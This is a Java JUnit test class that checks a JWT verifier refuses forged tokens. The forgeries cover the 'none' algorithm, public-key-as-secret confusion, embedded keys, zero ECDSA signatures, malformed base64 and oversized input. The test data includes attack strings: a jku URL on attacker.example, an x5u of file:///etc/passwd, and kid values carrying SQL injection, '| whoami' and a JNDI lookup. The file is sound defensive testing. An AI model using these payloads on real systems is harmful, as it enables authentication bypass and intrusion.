package io.github.jettyws.security.auth;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import com.nimbusds.jose.util.DeflateUtils;
import java.io.IOException;
import java.security.GeneralSecurityException;
import java.security.Signature;
import java.time.Duration;
import java.util.Arrays;
import java.util.Base64;
import java.util.EnumSet;
import java.util.HexFormat;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** TestTokens made by hand to be believed where they should not be. */
class JwtAttackTest {
    private static final JwtVerifier HS256 = TestTokens.verifier(JwtAlgorithm.HS256, TestTokens.OCT);
    private static final JwtVerifier RS256 = TestTokens.verifier(JwtAlgorithm.RS256, TestTokens.RSA);
    private static final JwtVerifier ES256 = TestTokens.verifier(JwtAlgorithm.ES256, TestTokens.EC);

    /** RFC 8725, section 2.1; the letters' case was CVE-2020-28042 and others. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "\"none\"",
                "\"None\"",
                "\"NONE\"",
                "\"nOnE\"",
                "\" none\"",
                "\"none\\u0000\"",
                "\"\"",
                "null",
                "0",
                "[\"HS256\"]",
                "\"hs256\"",
                "\"HS256 \"",
                "\"HS384\"",
                "\"RS256\"",
                "\"dir\"",
                "\"EdDSA\"",
                "\"ES256K\"",
                "\"HS1\""
            })
    void verify_algorithmNotNamed_isRefused(String algorithm) {
        String header = "{\"alg\":" + algorithm + "}";
        String signed = TestTokens.encode(TestTokens.bytes(header)) + "."
                + TestTokens.encode(TestTokens.bytes(TestTokens.CLAIMS));

        refused("algorithm not allowed", HS256, TestTokens.sign(JwtAlgorithm.HS256, header, TestTokens.CLAIMS));
        refused("algorithm not allowed", HS256, signed + ".AAAA");
        refused("not a signed token", HS256, signed + ".");
        refused("malformed", HS256, signed);
    }

    @Test
    void verify_noAlgorithm_isRefused() {
        refused("algorithm not allowed", HS256, TestTokens.sign(JwtAlgorithm.HS256, "{}", TestTokens.CLAIMS));
        refused("malformed header", HS256, TestTokens.sign(JwtAlgorithm.HS256, "[]", TestTokens.CLAIMS));
        refused("malformed header", HS256, TestTokens.sign(JwtAlgorithm.HS256, "null", TestTokens.CLAIMS));
    }

    /** CVE-2015-9235: the public key, which everybody has, as the secret. */
    @Test
    void verify_publicKeyAsSecret_isRefused() throws GeneralSecurityException {
        String header = TestTokens.encode(TestTokens.bytes("{\"alg\":\"HS256\"}"));
        String signed = header + "." + TestTokens.encode(TestTokens.bytes(TestTokens.CLAIMS));
        byte[] der = Base64.getMimeDecoder().decode(TestTokens.EC_PEM.replaceAll("-----.*-----", ""));
        JwtKeySet pem = JwtKeySet.parse(TestTokens.bytes(TestTokens.EC_PEM));
        for (byte[] secret : List.of(
                TestTokens.bytes(TestTokens.EC_PEM),
                TestTokens.bytes(TestTokens.EC_PEM.strip()),
                der,
                TestTokens.bytes(TestTokens.EC))) {
            String token = signed + "."
                    + TestTokens.encode(TestTokens.mac(JwtAlgorithm.HS256, secret, TestTokens.bytes(signed)));

            refused("algorithm not allowed", ES256, token);
            refused("algorithm not allowed", new JwtVerifier(rules(JwtAlgorithm.ES256), pem, TestTokens.CLOCK), token);
            // Even where the rules are for secrets and the key was meant to be one.
            refused("no key", new JwtVerifier(rules(JwtAlgorithm.HS256), pem, TestTokens.CLOCK), token);
            refused("no key", TestTokens.verifier(JwtAlgorithm.HS256, TestTokens.EC), token);
        }
    }

    /** The same key, another algorithm: what was signed with PKCS #1 is no PSS, and the digest is part of it. */
    @ParameterizedTest
    @EnumSource(value = JwtAlgorithm.class, names = "(RS|PS).*", mode = EnumSource.Mode.MATCH_ANY)
    void verify_signatureOfAnotherAlgorithm_isWrong(JwtAlgorithm claimed) {
        JwtVerifier all = new JwtVerifier(
                JwtRules.builder(EnumSet.range(JwtAlgorithm.RS256, JwtAlgorithm.ES512))
                        .build(),
                TestTokens.keys(TestTokens.RSA),
                TestTokens.CLOCK);
        for (JwtAlgorithm used : EnumSet.range(JwtAlgorithm.RS256, JwtAlgorithm.PS512)) {
            String token = TestTokens.sign(used, "{\"alg\":\"" + claimed + "\"}", TestTokens.CLAIMS);

            assertEquals(used == claimed, all.verify(token) instanceof Proof.Proved, used + " as " + claimed);
        }
    }

    /** RFC 8725, section 3.10: neither used nor fetched, nor even read. */
    @ParameterizedTest
    @MethodSource("embeddedKeys")
    void verify_keyInHeader_isIgnored(String member) {
        String header = "{\"alg\":\"HS256\"," + member + "}";
        JwtVerifier otherSecret =
                TestTokens.verifier(JwtAlgorithm.HS256, "{\"kty\":\"oct\",\"k\":\"" + "A".repeat(43) + "\"}");
        String token = TestTokens.sign(JwtAlgorithm.HS256, header, TestTokens.CLAIMS);

        refused("wrong signature", otherSecret, token);
        assertInstanceOf(Proof.Proved.class, HS256.verify(token));
    }

    static Stream<String> embeddedKeys() {
        return Stream.of(
                "\"jwk\":" + TestTokens.OCT,
                "\"jwk\":" + TestTokens.RSA,
                "\"jwk\":\"no key\"",
                "\"jku\":\"https://attacker.example/keys\"",
                "\"jku\":\"http://[::1\"",
                "\"x5u\":\"file:///etc/passwd\"",
                "\"x5c\":[\"MIIB\",1]",
                "\"x5t\":7");
    }

    @Test
    void verify_ecKeyInHeader_isIgnored() {
        String other = "{\"kty\":\"EC\",\"crv\":\"P-256\",\"x\":\"axfR8uEsQkf4vOblY6RA8ncDfYEt6zOg9KE5RdiYwpY\","
                + "\"y\":\"T-NC4v4af5uO5-tKfA-eFivOM1drMV7Oy7ZAaDe_UfU\"}";
        String token = TestTokens.sign(
                JwtAlgorithm.ES256, "{\"alg\":\"ES256\",\"jwk\":" + TestTokens.EC + "}", TestTokens.CLAIMS);

        assertInstanceOf(Proof.Proved.class, ES256.verify(token));
        refused("wrong signature", TestTokens.verifier(JwtAlgorithm.ES256, other), token);
    }

    /** A {@code kid} is compared, and that is all. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "../../../../dev/null",
                "/dev/null",
                "x' UNION SELECT 'A",
                "| whoami",
                "${jndi:ldap://attacker.example}",
                "",
                "a ",
                "A",
                "\\u0000",
                "a\\u0000"
            })
    void verify_keyIdOfNoKey_findsNone(String kid) {
        JwtVerifier named = TestTokens.verifier(JwtAlgorithm.HS256, TestTokens.OCT.replace("{", "{\"kid\":\"a\","));

        refused("no key", named, withKeyId("\"" + kid + "\""));
    }

    @Test
    void verify_keyId_isTextOrNotThere() {
        JwtVerifier named = TestTokens.verifier(JwtAlgorithm.HS256, TestTokens.OCT.replace("{", "{\"kid\":\"a\","));

        assertInstanceOf(Proof.Proved.class, named.verify(withKeyId("\"a\"")));
        assertInstanceOf(Proof.Proved.class, named.verify(TestTokens.sign(JwtAlgorithm.HS256, TestTokens.CLAIMS)));
        assertInstanceOf(Proof.Proved.class, HS256.verify(withKeyId("\"whatever\"")));
        refused("malformed header", HS256, withKeyId("null"));
        refused("malformed header", HS256, withKeyId("1"));
        refused("malformed header", HS256, withKeyId("[\"a\"]"));
        refused("no key", named, withKeyId("\"" + "a".repeat(3000) + "\""));
        refused("header too long", named, withKeyId("\"" + "a".repeat(4000) + "\""));
    }

    /** RFC 7515, appendix E, and section 4.1.11. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "\"crit\":[\"http://example.invalid/UNDEFINED\"],\"http://example.invalid/UNDEFINED\":true",
                "\"crit\":[\"exp\"],\"exp\":1",
                "\"crit\":[\"b64\"],\"b64\":false",
                "\"crit\":[\"b64\"],\"b64\":true",
                "\"crit\":[]",
                "\"crit\":null",
                "\"crit\":\"x\"",
                "\"b64\":false",
                "\"zip\":\"DEF\"",
                "\"zip\":null",
                "\"enc\":\"A128GCM\""
            })
    void verify_extension_isRefused(String member) {
        String header = "{\"alg\":\"HS256\"," + member + "}";

        refused("unsupported header", HS256, TestTokens.sign(JwtAlgorithm.HS256, header, TestTokens.CLAIMS));
    }

    @Test
    void verify_compressedClaims_areNoClaims() throws IOException {
        byte[] compressed = DeflateUtils.compress(TestTokens.bytes(TestTokens.CLAIMS));
        String signed =
                TestTokens.encode(TestTokens.bytes("{\"alg\":\"HS256\"}")) + "." + TestTokens.encode(compressed);
        String token =
                signed + "." + TestTokens.encode(TestTokens.signature(JwtAlgorithm.HS256, TestTokens.bytes(signed)));

        refused("malformed claims", HS256, token);
    }

    @Test
    void verify_length_isBoundedBeforeAnythingIsRead() {
        String claims = "{\"sub\":\"ann\",\"exp\":1800000600,\"pad\":\"\"}";
        String longest = padded(claims, CompactToken.MAX_LENGTH);
        String megabyte = "a".repeat(1 << 20);

        assertInstanceOf(Proof.Proved.class, HS256.verify(longest));
        refused("too long", HS256, padded(claims, CompactToken.MAX_LENGTH + 1));
        refused("too long", HS256, megabyte);
        refused("too long", HS256, megabyte + "." + megabyte + "." + megabyte);
        refused("too long", HS256, ".".repeat(1 << 20));
        refused("malformed", HS256, "");
        refused("malformed", HS256, "a".repeat(CompactToken.MAX_LENGTH));
        refused("malformed", HS256, ".".repeat(CompactToken.MAX_LENGTH));
    }

    @Test
    void verify_headerLength_isBounded() {
        // 3072 bytes are 4096 characters.
        String longest = "{\"alg\":\"HS256\",\"x\":\"" + "x".repeat(3072 - 22) + "\"}";
        String longer = "{\"alg\":\"HS256\",\"x\":\"" + "x".repeat(3072 - 21) + "\"}";

        assertInstanceOf(
                Proof.Proved.class, HS256.verify(TestTokens.sign(JwtAlgorithm.HS256, longest, TestTokens.CLAIMS)));
        refused("header too long", HS256, TestTokens.sign(JwtAlgorithm.HS256, longer, TestTokens.CLAIMS));
    }

    @Test
    void verify_deepJson_isBounded() {
        // The object itself is the first.
        String deepest = "[".repeat(9) + "]".repeat(9);
        String deeper = "[".repeat(10) + "]".repeat(10);
        String deep = "{\"a\":".repeat(500) + "1" + "}".repeat(500);

        assertInstanceOf(
                Proof.Proved.class,
                HS256.verify(TestTokens.sign(JwtAlgorithm.HS256, header(deepest), claims(deepest))));
        refused("malformed claims", HS256, TestTokens.sign(JwtAlgorithm.HS256, claims(deeper)));
        refused("malformed header", HS256, TestTokens.sign(JwtAlgorithm.HS256, header(deeper), TestTokens.CLAIMS));
        refused("malformed claims", HS256, TestTokens.sign(JwtAlgorithm.HS256, claims(deep)));
        refused(
                "malformed header",
                HS256,
                TestTokens.sign(JwtAlgorithm.HS256, header("[".repeat(2900)), TestTokens.CLAIMS));
    }

    private static String header(String value) {
        return "{\"alg\":\"HS256\",\"x\":" + value + "}";
    }

    private static String claims(String value) {
        return "{\"sub\":\"ann\",\"exp\":1800000600,\"x\":" + value + "}";
    }

    /** A name that comes twice at any depth, also where one is written with an escape. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "{\"sub\":\"ann\",\"exp\":1800000600,\"sub\":\"root\"}",
                "{\"sub\":\"ann\",\"exp\":1800000600,\"s\\u0075b\":\"root\"}",
                "{\"sub\":\"ann\",\"exp\":1,\"exp\":1800000600}",
                "{\"sub\":null,\"exp\":1800000600,\"sub\":\"root\"}",
                "{\"sub\":\"ann\",\"exp\":1800000600,\"x\":{\"a\":1,\"a\":2}}",
                "{\"sub\":\"ann\",\"exp\":1800000600,\"x\":[{\"a\":1,\"a\":1}]}"
            })
    void verify_claimTwice_isMalformed(String claims) {
        refused("malformed claims", HS256, TestTokens.sign(JwtAlgorithm.HS256, claims));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{\"alg\":\"HS256\",\"alg\":\"HS256\"}",
                "{\"alg\":\"none\",\"alg\":\"HS256\"}",
                "{\"alg\":\"HS256\",\"jwk\":{\"k\":1,\"k\":2}}",
                "{\"alg\":\"HS256\"}{}",
                "{\"alg\":\"HS256\"} x",
                "{\"alg\":\"HS256\",}",
                "{'alg':'HS256'}",
                "{alg:\"HS256\"}",
                "{\"alg\":\"HS256\"/**/}",
                "{\"alg\"=\"HS256\"}",
                ")]}'\n{\"alg\":\"HS256\"}"
            })
    void verify_headerThatIsNoStrictJson_isMalformed(String header) {
        refused("malformed header", HS256, TestTokens.sign(JwtAlgorithm.HS256, header, TestTokens.CLAIMS));
    }

    @Test
    void verify_claimsThatAreNoUtf8_areMalformed() {
        byte[] overlong = TestTokens.bytes("{\"sub\":\"a??n\",\"exp\":1800000600}");
        overlong[9] = (byte) 0xc0;
        overlong[10] = (byte) 0xae;
        String signed = TestTokens.encode(TestTokens.bytes("{\"alg\":\"HS256\"}")) + "." + TestTokens.encode(overlong);

        refused(
                "malformed claims",
                HS256,
                signed + "." + TestTokens.encode(TestTokens.signature(JwtAlgorithm.HS256, TestTokens.bytes(signed))));
    }

    /** One token, written in ways that lenient decoders take for the same. */
    @Test
    void verify_otherSpellingsOfBase64_areMalformed() {
        String token = TestTokens.sign(JwtAlgorithm.RS256, TestTokens.CLAIMS);
        String[] parts = token.split("\\.");
        for (int i = 0; i < parts.length; i++) {
            for (String other : List.of(
                    parts[i] + "=",
                    parts[i] + "==",
                    parts[i].replace('-', '+').replace('_', '/') + "+",
                    parts[i] + " ",
                    " " + parts[i],
                    parts[i] + "\n",
                    parts[i].substring(0, 4) + "\r\n" + parts[i].substring(4),
                    parts[i].substring(0, 4) + "\u00e9" + parts[i].substring(4),
                    parts[i].substring(0, 4) + "%" + parts[i].substring(4))) {
                String[] changed = parts.clone();
                changed[i] = other;

                refused("malformed", RS256, String.join(".", changed));
            }
        }
        assertInstanceOf(Proof.Proved.class, RS256.verify(token));
    }

    @Test
    void verify_lastBitsThatDoNotCount_areMalformed() {
        String token = TestTokens.sign(JwtAlgorithm.HS256, TestTokens.CLAIMS);
        String alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
        // 32 bytes are 43 characters, of the last of which two bits do not count.
        int last = alphabet.indexOf(token.charAt(token.length() - 1));
        for (int i = 1; i < 4; i++) {
            refused("malformed", HS256, token.substring(0, token.length() - 1) + alphabet.charAt(last + i));
        }
    }

    @Test
    void verify_partsMoreOrLess_areRefused() {
        String token = TestTokens.sign(JwtAlgorithm.HS256, TestTokens.CLAIMS);

        refused("malformed", HS256, "." + token);
        refused("malformed", HS256, token.replace(".", ".."));
        refused("not a signed token", HS256, token + ".");
        refused("not a signed token", HS256, token + ".AAAA");
        refused("not a signed token", HS256, token + ".AAAA.AAAA");
        refused("malformed", HS256, "Bearer " + token);
    }

    @ParameterizedTest
    @EnumSource(
            value = JwtAlgorithm.class,
            names = {"HS256", "RS256", "PS256", "ES256"})
    void verify_signatureCutOffOrLonger_isWrong(JwtAlgorithm algorithm) {
        String jwk = algorithm == JwtAlgorithm.HS256
                ? TestTokens.OCT
                : algorithm == JwtAlgorithm.ES256 ? TestTokens.EC : TestTokens.RSA;
        JwtVerifier verifier = TestTokens.verifier(algorithm, jwk);
        String token = TestTokens.sign(algorithm, TestTokens.CLAIMS);
        String signed = token.substring(0, token.lastIndexOf('.') + 1);
        byte[] signature = TestTokens.decode(token.substring(signed.length()));
        for (int length = 1; length <= signature.length + 40; length++) {
            String changed = signed + TestTokens.encode(Arrays.copyOf(signature, length));

            assertEquals(
                    length == signature.length, verifier.verify(changed) instanceof Proof.Proved, length + " bytes");
        }
    }

    /** CVE-2022-21449: r and s of zero were a signature of everything; and those of the order of the curve. */
    @Test
    void verify_signatureOutOfRange_isWrong() {
        String token = TestTokens.sign(JwtAlgorithm.ES256, TestTokens.CLAIMS);
        String signed = token.substring(0, token.lastIndexOf('.') + 1);
        String order = "ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551";
        String zero = "0".repeat(64);
        String one = "0".repeat(63) + "1";
        for (String signature : List.of(
                zero + zero,
                zero + one,
                one + zero,
                order + order,
                order + one,
                one + order,
                "f".repeat(128),
                one + one)) {
            refused(
                    "wrong signature",
                    ES256,
                    signed + TestTokens.encode(HexFormat.of().parseHex(signature)));
        }
    }

    /** What the JDK writes by itself; a JWS has r and s one after the other (RFC 7518, section 3.4). */
    @Test
    void verify_signatureInDer_isWrong() throws GeneralSecurityException {
        String token = TestTokens.sign(JwtAlgorithm.ES256, TestTokens.CLAIMS);
        String signed = token.substring(0, token.lastIndexOf('.'));
        byte[] der = TestTokens.signature(
                Signature.getInstance("SHA256withECDSA"), TestTokens.ecPrivate(), TestTokens.bytes(signed));

        refused("wrong signature", ES256, signed + "." + TestTokens.encode(der));
        assertInstanceOf(Proof.Proved.class, ES256.verify(token));
    }

    @Test
    void verify_numberOfAnySize_takesNoTime() {
        String claims = "{\"sub\":\"ann\",\"exp\":1800000600,\"x\":";

        assertTimeoutPreemptively(Duration.ofSeconds(10), () -> {
            refused("malformed claims", HS256, TestTokens.sign(JwtAlgorithm.HS256, claims + "1e-999999999}"));
            refused("malformed claims", HS256, TestTokens.sign(JwtAlgorithm.HS256, claims + "1e999999999}"));
            refused("malformed claims", HS256, TestTokens.sign(JwtAlgorithm.HS256, claims + "9".repeat(5000) + "}"));
        });
    }

    private static String padded(String claims, int length) {
        // Header and signature stay as long as they are; four characters are three bytes.
        for (int pad = 0; pad < length; pad++) {
            String token = TestTokens.sign(JwtAlgorithm.HS256, claims.replace("\"\"", "\"" + "x".repeat(pad) + "\""));
            if (token.length() >= length) {
                assertEquals(length, token.length(), "choose another claim");
                return token;
            }
        }
        throw new AssertionError("never so long");
    }

    private static String withKeyId(String kid) {
        return TestTokens.sign(JwtAlgorithm.HS256, "{\"alg\":\"HS256\",\"kid\":" + kid + "}", TestTokens.CLAIMS);
    }

    private static JwtRules rules(JwtAlgorithm algorithm) {
        return JwtRules.builder(Set.of(algorithm)).build();
    }

    private static void refused(String why, JwtVerifier verifier, String token) {
        assertEquals(new Proof.Rejected(why), verifier.verify(token));
    }
}
